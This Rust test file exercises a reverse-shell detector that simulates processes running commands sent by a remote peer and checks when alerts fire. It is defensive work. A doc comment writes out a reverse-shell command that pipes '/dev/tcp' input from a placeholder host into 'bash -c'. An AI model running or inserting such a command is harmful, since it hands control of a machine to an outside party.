//! Programs that run a process for each message of a peer, and those that only resemble them.

use super::*;

/// Where a process of a program writes.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Output {
    Connection,
    /// A pipe that the program reads.
    Pipe,
    Elsewhere,
}

/// A program with a connection, in time.
struct Session {
    program: (&'static str, &'static str),
    output: Output,
    accepts: bool,
    watch: Watch,
    received: u64,
    sent: u64,
    /// The process that runs, and the number of those that have run.
    child: Option<u32>,
    children: u32,
    found: Vec<String>,
}

impl Session {
    fn new(file: &'static str, line: &'static str, output: Output) -> Self {
        let mut session = Self {
            program: (file, line),
            output,
            accepts: false,
            watch: Watch::new(),
            received: 0,
            sent: 0,
            child: None,
            children: 0,
            found: Vec::new(),
        };
        session.wait(1);
        session
    }

    fn wait(&mut self, scans: u32) {
        let mut machine = Machine::default();
        let tcp = machine.connection(40000, PEER);
        if self.accepts {
            machine.listener(40000);
        }
        let (read, write) = machine.pipe();
        (machine.received, machine.sent) = (self.received, self.sent);
        let (file, line) = self.program;
        let null = null();
        machine.run(20, file, line, &[(0, &null), (1, &null), (3, &tcp), (4, &read)]);
        if let Some(pid) = self.child {
            let output = match self.output {
                Output::Connection => &tcp,
                Output::Pipe => &write,
                Output::Elsewhere => &null,
            };
            machine.run(pid, "id", "id", &[(0, &null), (1, output), (2, output)]);
            machine.world.process(pid).parent = 20;
        }
        self.found.extend((0..scans).flat_map(|_| self.watch.scan(&machine)));
    }

    fn start(&mut self) {
        self.children += 1;
        self.child = Some(100 + self.children);
    }

    /// The peer sends a command, which runs, and is answered.
    fn command(&mut self) {
        self.wait(15);
        self.received += 3;
        self.wait(1);
        self.start();
        self.wait(2);
        self.sent += 40;
        self.wait(1);
        self.child = None;
        self.wait(1);
    }

    fn commands(mut self, count: u32) -> Vec<String> {
        (0..count).for_each(|_| self.command());
        self.found
    }
}

const FOUND: [&str; 1] = ["Outbound 40000: 20 in 20 out 20"];

/// Field test A14, A15, A43, A81, A82.
#[test]
fn a_one_liner_that_runs_what_a_peer_sends_is_reported_once() {
    for (file, line, output) in [
        ("perl", "perl -MIO -e x", Output::Connection),
        ("perl", "perl -e x", Output::Pipe),
        ("python3.11", "python3 -c x", Output::Connection),
        ("ruby3.1", "ruby -rsocket -e x", Output::Pipe),
        ("node", "node -e x", Output::Pipe),
        ("python3.11", "python3 /tmp/x.py", Output::Pipe),
        ("bash", "bash -c x", Output::Connection),
    ] {
        assert_eq!(Session::new(file, line, output).commands(1), [""; 0], "{line}");
        assert_eq!(Session::new(file, line, output).commands(2), FOUND, "{line}");
        assert_eq!(Session::new(file, line, output).commands(12), FOUND, "{line}");
    }
}

#[test]
fn programs_that_are_somebodys_file_raise_no_alert() {
    for (file, line) in [
        ("python3.11", "python3 /usr/lib/agent.py"),
        ("python3.11", "python3 -m celery worker"),
        ("bash", "bash /usr/bin/agent"),
        ("ruby3.1", "ruby /usr/bin/puppet"),
        ("node", "node /srv/app.js"),
        ("runner", "runner -e x"),
    ] {
        assert_eq!(Session::new(file, line, Output::Pipe).commands(20), [""; 0], "{line}");
    }
}

#[test]
fn what_does_not_write_to_the_peer_raises_no_alert() {
    let session = Session::new("bash", "bash -c x", Output::Elsewhere);
    assert_eq!(session.commands(20), [""; 0]);
}

#[test]
fn an_accepted_connection_raises_no_alert() {
    let mut session = Session::new("python3.11", "python3 -c x", Output::Connection);
    session.accepts = true;
    session.wait(1);
    assert_eq!(session.commands(20), [""; 0]);
}

#[test]
fn a_client_raises_no_alert() {
    // It measures something, sends the result, and the server confirms it: at once, or as soon as
    // the next process runs.
    for (pause, delay) in [(20, 0), (20, 2), (0, 0), (0, 2), (0, 6)] {
        let mut session = Session::new("bash", "bash -c x", Output::Pipe);
        for _ in 0..60 {
            session.start();
            session.wait(2);
            session.child = None;
            session.sent += 10;
            session.wait(1 + delay);
            session.received += 3;
            session.wait(1 + pause);
        }
        assert_eq!(session.found, [""; 0], "{pause} {delay}");
    }
}

#[test]
fn one_message_with_many_commands_is_one_turn() {
    let mut session = Session::new("perl", "perl -e x", Output::Connection);
    session.wait(15);
    session.received += 300;
    for _ in 0..20 {
        session.start();
        session.wait(3);
        session.sent += 10;
        session.child = None;
        session.wait(1);
    }
    assert_eq!(session.found, [""; 0]);
}

#[test]
fn a_program_that_spoke_first_has_to_take_more_turns() {
    let session = || {
        let mut session = Session::new("perl", "perl -e x", Output::Connection);
        session.sent += 10;
        session.wait(1);
        session
    };
    assert_eq!(session().commands(7), [""; 0]);
    assert_eq!(session().commands(8), FOUND);
}

/// Field test A56: `cat < /dev/tcp/A/4444 | xargs -I{} bash -c {}`.
#[test]
fn an_xargs_that_runs_what_a_peer_sends_is_reported() {
    let found = |line: &str, back: bool, sent: u64, commands: u32| {
        let mut machine = Machine::default();
        let tcp = machine.connection(40000, PEER);
        let (read, write) = machine.pipe();
        let null = null();
        machine.run(20, "cat", "cat", &[(0, &tcp), (1, &write)]);
        let output = if back { &tcp } else { &null };
        machine.run(21, "xargs", line, &[(0, &read), (1, output), (2, output)]);
        machine.sent = sent;
        let mut watch = Watch::new();
        let mut found = watch.settle(&machine);
        for command in 0..commands {
            (0..4).for_each(|_| found.extend(watch.settle(&machine)));
            machine.received += 3;
            let pid = 100 + command;
            machine.run(pid, "bash", "bash -c id", &[(0, &null), (1, output)]);
            machine.world.process(pid).parent = 21;
            found.extend(watch.settle(&machine));
            machine.world.remove(pid);
        }
        found
    };
    let with_output = ["Outbound 40000: 20,21 in 20>21 out 21"];
    assert_eq!(found("xargs -I{} bash -c {}", true, 0, 0), with_output);
    let without = ["Outbound 40000: 20,21 in 20>21 out 21"];
    assert_eq!(found("xargs -I{} bash -c {}", false, 0, 2), without);
    assert_eq!(found("xargs -I{} bash -c {}", false, 0, 1), [""; 0]);
    assert_eq!(found("xargs -I{} bash -c {}", false, 90, 20), [""; 0], "it asked: curl");
    assert_eq!(found("xargs -n1 wget", false, 0, 20), [""; 0], "data");
}
